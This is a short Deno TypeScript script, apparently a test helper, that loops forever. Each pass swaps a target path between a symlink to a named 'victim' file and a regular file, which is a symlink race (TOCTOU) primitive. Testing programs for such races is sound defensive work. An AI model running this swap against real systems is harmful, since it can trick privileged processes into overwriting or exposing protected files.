import { say } from "./say.ts";

/** Puts a link to the victim in place of a file, and the file back, for ever. */
const [path = "", victim = "", content = ""] = Deno.args;
const keep = await Deno.readFile(content).catch(() => new Uint8Array());
say("swapping");
for (;;) {
  await Deno.symlink(victim, `${path}.link`).catch(() => {});
  await Deno.rename(`${path}.link`, path).catch(() => {});
  await Deno.writeFile(`${path}.file`, keep, { mode: 0o600 }).catch(() => {});
  await Deno.rename(`${path}.file`, path).catch(() => {});
}
